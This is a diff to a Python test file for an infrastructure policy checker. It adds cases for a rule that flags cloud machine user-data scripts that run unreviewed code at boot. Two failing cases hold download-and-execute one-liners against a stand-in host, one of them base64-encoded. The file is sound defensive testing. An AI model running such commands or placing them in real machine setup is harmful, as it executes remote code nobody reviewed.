@@ -1,8 +1,11 @@
+from base64 import b64encode
+
 import pytest
 
 from policies.judge import judge
 from policies.record import UNKNOWN, Graph
 from policies.started_code import RULES
+from policies.written_credentials import USER_DATA
 from tests.policies.cases import Case, RuleCases, cases_test, resource
 from tests.policies.model_examples import engine, llm, service
 
@@ -12,6 +15,10 @@ OTHER = [Case(resource("kubernetes:core/v1:Service", {"kind": "Service"}))]
 def pod(**container):
     spec = {"containers": [{"name": "app", **container}]}
     return resource("kubernetes:batch/v1:Job", {"kind": "Job", "spec": {"template": {"spec": spec}}})
+
+
+def machine(said):
+    return resource(USER_DATA[0], {"userData": said})
 
 
 CASES = {
@@ -64,6 +71,25 @@ CASES = {
         ],
         not_applicable=OTHER,
         undecided=[Case(pod(env=UNKNOWN))],
+    ),
+    "machines-run-what-was-reviewed": RuleCases(
+        passing=[
+            Case(machine("#!/bin/bash\nyum install -y amazon-cloudwatch-agent\n")),
+            Case(machine("#!/bin/bash\ncurl -sf http://169.254.169.254/latest/meta-data/ > /run/id\n")),
+            Case(machine(None)),
+        ],
+        failing=[
+            Case(
+                machine("#!/bin/bash\ncurl -s https://x.example.com/i.sh | bash\n"),
+                findings=["user data pipes a download into a shell when the machine starts"],
+            ),
+            Case(
+                machine(b64encode(b'bash -c "$(curl -fsSL https://x.example.com/i.sh)"').decode()),
+                findings=["user data runs a downloaded script when the machine starts"],
+            ),
+        ],
+        not_applicable=OTHER,
+        undecided=[Case(machine(UNKNOWN))],
     ),
 }
 
